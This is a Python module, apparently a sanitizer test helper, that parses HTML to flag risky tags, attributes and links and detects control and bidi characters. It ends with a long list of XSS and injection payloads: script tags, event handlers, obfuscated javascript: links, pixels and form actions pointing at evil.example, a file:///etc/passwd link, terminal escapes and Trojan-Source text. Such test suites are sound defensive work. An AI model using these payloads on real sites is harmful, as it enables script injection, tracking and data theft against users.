"""A reader of HTML that reports whatever could act."""

from __future__ import annotations

from html.parser import HTMLParser

TAGS = {
    "a", "b", "blockquote", "br", "button", "code", "del", "details", "div", "em", "figure", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "img", "input", "li", "ol", "p", "pre", "s", "section", "small", "span", "strong", "summary",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
PICTURES = tuple(f"data:image/{kind};base64," for kind in ("png", "jpeg", "gif", "webp"))
SCHEMES = ("http://", "https://", "mailto:")


class Page(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.text = ""
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            lowered = "".join(value.split()).lower()
            if name.startswith("on"):
                self.dangers.append(f"{tag} {name}")
            if name in ("srcset", "action", "formaction", "srcdoc", "id", "name"):
                self.dangers.append(f"{tag} {name}")
            if name == "src" and not lowered.startswith(PICTURES):
                self.dangers.append(f"{tag} src={value}")
            if name == "href":
                self.links.append(value)
                if not lowered.startswith(SCHEMES):
                    self.dangers.append(f"{tag} href={value}")
            if name == "style" and ("url(" in lowered or "expression" in lowered):
                self.dangers.append(f"{tag} style={value}")

    def handle_data(self, text: str) -> None:
        self.text += text

    def handle_comment(self, text: str) -> None:
        self.dangers.append("<!--")

    def handle_decl(self, text: str) -> None:
        self.dangers.append("<!")

    def handle_pi(self, text: str) -> None:
        self.dangers.append("<?")


def unseen(text: str) -> list[str]:
    """Characters that act on a terminal, turn the text around, or cannot be encoded."""
    return [
        char
        for char in text
        if (ord(char) < 0x20 and char not in "\n\t")
        or 0x7F <= ord(char) <= 0x9F
        or 0x202A <= ord(char) <= 0x202E
        or 0x2066 <= ord(char) <= 0x2069
        or 0xD800 <= ord(char) <= 0xDFFF
    ]


HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=a></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!-- comment --><b>bold</b>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></section><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](../api/shutdown)",
    "[x](/files/evil.html)",
    "[x](#part)",
    "[x](\\\\evil.example/a)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://evil.example/a.png)",
    "![][ref]\n\n[ref]: https://evil.example/pixel.png",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]: <javascript:alert(1)>\n\n[ref]",
    "```<script>alert(1)</script>\ncode\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "`` ` `` <script>alert(1)</script> `x`",
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "# <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "- `open\n\n<script>alert(1)</script>\n\n- close`",
    "a `b\n\n<img src=https://evil.example/a.png>\n\nc` d",
    "> ```\n> x\n<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J<script>\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "if access != \"\u202e\u2066// admin only\u2069 \u2066\"",
    "null\x00byte \ud800 lone \udfff surrogates",
    "\x9b2J\x85\u2028<script>",
)
